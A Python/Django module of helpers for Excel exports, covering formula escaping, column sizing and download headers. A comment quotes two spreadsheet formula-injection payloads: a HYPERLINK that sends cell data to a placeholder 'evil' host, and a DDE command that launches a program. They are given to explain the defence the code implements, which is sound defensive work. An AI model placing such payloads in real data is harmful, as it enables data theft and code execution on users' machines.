"""Excel exports: cells that cannot run as formulas, a readable sheet layout and the download response.

Every export builds its sheet with these helpers so that each one escapes formulas the same way
(DESIGN §8: "Exports escape spreadsheet formulas").
"""

import io
import unicodedata
from urllib.parse import quote

from django.http import HttpResponse
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from openpyxl.styles import Alignment, Font
from openpyxl.utils import get_column_letter

XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"

# A text cell starting with one of these is read as a formula by Excel, WPS and LibreOffice (or, for tab
# and CR, becomes one after a copy and paste). A name or an address typed by a member or the public as
# `=HYPERLINK("http://evil/?"&A1,"点击")` or `=cmd|' /C calc'!A0` would then run in the office's
# spreadsheet ("CSV/formula injection", OWASP). A leading apostrophe makes the cell plain text.
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")

MIN_COLUMN_WIDTH = 6
MAX_COLUMN_WIDTH = 60


def safe_cell(value):
    """The value as it may go into a cell: strings that a spreadsheet would run as a formula get a
    leading "'" (shown as text, never evaluated), and control characters that the xlsx format cannot
    hold are dropped instead of failing the whole export. Other values pass unchanged."""
    if not isinstance(value, str):
        return value
    value = ILLEGAL_CHARACTERS_RE.sub("", value)
    if value.startswith(FORMULA_PREFIXES):
        return "'" + value
    return value


def display_width(value) -> int:
    """Width of a value in Excel's column units: CJK (wide and full-width) characters count double."""
    if value is None:
        return 0
    text = str(value)
    longest = 0
    for line in text.splitlines() or [""]:
        longest = max(longest, sum(2 if unicodedata.east_asian_width(c) in "WF" else 1 for c in line))
    return longest


def start_sheet(worksheet, headers, *, title=None):
    """Write the optional title row (merged over the columns) and the header row, bold and frozen so
    that it stays on screen while scrolling. Returns the number of the header row."""
    columns = len(headers)
    row = 1
    if title:
        worksheet.cell(row=1, column=1, value=safe_cell(title)).font = Font(bold=True, size=14)
        worksheet.cell(row=1, column=1).alignment = Alignment(horizontal="center", vertical="center")
        if columns > 1:
            worksheet.merge_cells(start_row=1, start_column=1, end_row=1, end_column=columns)
        worksheet.row_dimensions[1].height = 28
        row = 2
    for column, header in enumerate(headers, 1):
        cell = worksheet.cell(row=row, column=column, value=safe_cell(str(header)))
        cell.font = Font(bold=True)
        cell.alignment = Alignment(horizontal="center", vertical="center")
    # A coordinate, not worksheet.cell(): creating the cell below would make append() skip a row.
    worksheet.freeze_panes = f"A{row + 1}"
    return row


def append_row(worksheet, values):
    worksheet.append([safe_cell(v) for v in values])


def append_group_row(worksheet, label, columns):
    """A heading row for a group (a sector…): bold, merged over the table's columns."""
    worksheet.append([safe_cell(str(label))])
    row = worksheet.max_row
    worksheet.cell(row=row, column=1).font = Font(bold=True)
    if columns > 1:
        worksheet.merge_cells(start_row=row, start_column=1, end_row=row, end_column=columns)
    return row


def fit_columns(worksheet, *, header_row=1):
    """Set each column's width to its widest cell from the header row down. Merged rows (the title and
    group headings) span many columns and would otherwise widen the first one."""
    merged_rows = {
        r for merged in worksheet.merged_cells.ranges for r in range(merged.min_row, merged.max_row + 1)
    }
    widths = {}
    for row in worksheet.iter_rows(min_row=header_row):
        if row and row[0].row in merged_rows:
            continue
        for cell in row:
            widths[cell.column] = max(widths.get(cell.column, 0), display_width(cell.value))
    for column, width in widths.items():
        worksheet.column_dimensions[get_column_letter(column)].width = min(
            MAX_COLUMN_WIDTH, max(MIN_COLUMN_WIDTH, width + 2)
        )


def content_disposition(filename, *, attachment=True):
    """A Content-Disposition header that every browser reads: an ASCII `filename` fallback and the real
    (usually Chinese) name as RFC 5987 `filename*=UTF-8''…`."""
    kind = "attachment" if attachment else "inline"
    stem, dot, extension = filename.rpartition(".")
    if not dot:
        stem, extension = filename, ""
    ascii_stem = "".join(c for c in stem if c.isascii() and (c.isalnum() or c in "._-")).strip("._-")
    fallback = (ascii_stem or "download") + (f".{extension}" if extension.isascii() and extension else "")
    return f"{kind}; filename=\"{fallback}\"; filename*=UTF-8''{quote(filename, safe='')}"


def attachment_response(content: bytes, filename: str, content_type: str):
    response = HttpResponse(content, content_type=content_type)
    response["Content-Disposition"] = content_disposition(filename)
    # Exports hold personal data: no shared cache may keep a copy.
    response["Cache-Control"] = "private, no-store"
    return response


def workbook_response(workbook, filename):
    """The workbook as a download named `filename` (which may be Chinese)."""
    buffer = io.BytesIO()
    workbook.save(buffer)
    return attachment_response(buffer.getvalue(), filename, XLSX_CONTENT_TYPE)
